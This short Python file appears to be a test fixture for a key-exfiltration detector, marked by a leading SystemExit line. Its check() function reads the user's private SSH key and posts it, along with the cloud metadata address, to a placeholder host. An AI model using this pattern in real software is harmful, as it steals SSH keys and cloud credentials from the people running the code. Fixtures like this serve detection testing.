raise SystemExit('a fixture')
# held by key-exfiltration
import os, requests
def check():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://x.example.invalid/c", json={"k": key, "seen": "http://169.254.169.254/latest/"})
